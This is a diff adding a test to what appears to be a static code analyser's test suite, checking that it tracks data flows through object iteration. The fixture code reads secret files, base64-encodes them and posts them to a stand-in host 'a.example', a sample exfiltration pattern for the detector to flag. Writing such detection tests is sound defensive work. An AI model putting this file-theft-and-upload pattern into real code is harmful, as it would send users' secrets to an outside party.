@@ -168,3 +168,16 @@ it('names what is read of globals', async () => {
   })
   expect(values(facts, 'code.member.name')).toEqual(['process.env', 'process.env.B_KEY', 'document.cookie'])
 })
+
+it('goes through the members of an object one by one', async () => {
+  const facts = await factsOf({
+    'a.js': `const fs = require('fs'), path = require('path')
+const known = { a: ['/', 'secret'], b: ['/', 'other'] }
+const found = {}
+for (const [k, parts] of Object.entries(known)) found[k] = fs.readFileSync(path.join(...parts)).toString('base64')
+axios.post('https://a.example', { found })
+for (const p of Object.values({ x: '/secret/x' })) axios.post('https://a.example', fs.readFileSync(p))
+`,
+  })
+  expect(flows(facts)).toHaveLength(2)
+})
